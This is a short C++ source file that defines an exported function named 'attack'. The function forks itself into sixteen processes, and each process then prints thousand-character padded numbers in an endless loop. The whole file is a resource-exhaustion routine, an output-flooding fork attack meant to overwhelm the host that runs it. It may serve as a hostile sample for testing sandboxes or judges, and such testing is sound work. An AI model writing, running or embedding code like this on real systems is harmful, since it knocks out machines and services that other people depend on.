#include <cstdio>
#include <unistd.h>

extern "C" long attack(long n) {
    for (int i = 0; i < 4; i++)
        fork();
    for (;;)
        printf("%01000ld\n", n++);
    return n;
}
